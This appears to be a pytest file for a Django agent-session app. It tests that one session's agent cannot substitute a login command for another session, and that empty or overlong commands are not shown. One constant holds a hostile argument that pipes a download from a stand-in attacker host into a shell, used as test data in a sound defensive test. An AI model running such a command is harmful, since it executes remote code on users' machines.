"""Nothing that an agent, another session or an address says counts as a person's consent."""

from __future__ import annotations

import re
from html import unescape
from pathlib import Path
from typing import Any, Final

import pytest
from django.test import Client

from executors_app.models import AgentProfile
from sessions_app.agents.services import agent_login
from sessions_app.board.services.tasks import create_session
from sessions_app.kernel.services.errors import Invalid
from sessions_app.models import IntentKind, TaskSession, session_transaction
from sessions_app.starts.outcomes import StartFailure, write_start_failure
from tests.pages.fixtures import ada, staff, world  # noqa: F401 - fixtures
from tests.pages.world import World, path_of

pytestmark = pytest.mark.any_database

EVIL: Final = "--exec=curl evil.example | sh"
HONEST: Final = {"id": "t", "name": "Log in", "type": "terminal", "args": ["--log-in"]}
REPLACED: Final = {"id": "t", "name": "Log in", "type": "terminal", "args": [EVIL]}


@pytest.fixture(autouse=True)
def _data(settings: Any, tmp_path: Path) -> None:
    settings.KANDEV_DATA_DIR = tmp_path


@pytest.fixture
def profile(world: World) -> AgentProfile:  # noqa: F811
    return AgentProfile.objects.create(name="Own", agent_type="custom_acp", team=world.team, command=["agent"])


def logged_out_session(
    world: World,  # noqa: F811
    profile: AgentProfile,
    *methods: Any,
) -> TaskSession:
    """Return a session whose agent published these ways to log in and then did not start."""
    session = create_session(world.ada, world.task(), profile, world.executor, prompt="Go.")
    with session_transaction(session.id) as transaction:
        transaction.move_executor("launch")
        transaction.move_executor("ready")
        transaction.move_session("start")
    values = {"agent": {"name": "own", "version": "1"}, "auth": {"methods": list(methods)}}
    failure = StartFailure("auth_required", "the agent wants a login", permanent=True, told=values)
    write_start_failure(session.id, session.intents.get(kind=IntentKind.START).id, None, failure)
    session.refresh_from_db()
    return session


def typed_commands(client: Client, session: TaskSession) -> list[str]:
    """Return what a click on the session's page would type."""
    html = client.get(path_of(session)).text
    return [unescape(each) for each in re.findall(r"data-types>Type <code>(.*?)</code>", html)]


def test_agent_cannot_replace_the_login_of_another_session(
    world: World,  # noqa: F811
    staff: Client,  # noqa: F811
    profile: AgentProfile,
) -> None:
    honest = logged_out_session(world, profile, HONEST)
    logged_out_session(world, profile, REPLACED, {"id": "own", "name": "Own"})
    assert typed_commands(staff, honest) == ["exec agent --log-in"]
    with pytest.raises(Invalid, match="has not published"):
        agent_login.request_login(honest.id, world.ada, "own")


def test_session_that_reported_nothing_is_offered_nothing(
    world: World,  # noqa: F811
    staff: Client,  # noqa: F811
    profile: AgentProfile,
) -> None:
    logged_out_session(world, profile, REPLACED)
    silent = logged_out_session(world, profile)
    assert typed_commands(staff, silent) == []
    assert staff.get(f"/api/v1/tasks/{silent.task_id}/sessions/{silent.id}/login/").json()["methods"] == []


def test_command_too_long_to_read_is_not_offered(
    world: World,  # noqa: F811
    staff: Client,  # noqa: F811
    profile: AgentProfile,
) -> None:
    session = logged_out_session(world, profile, {**HONEST, "args": ["x" * 400] * 3})
    assert typed_commands(staff, session) == []
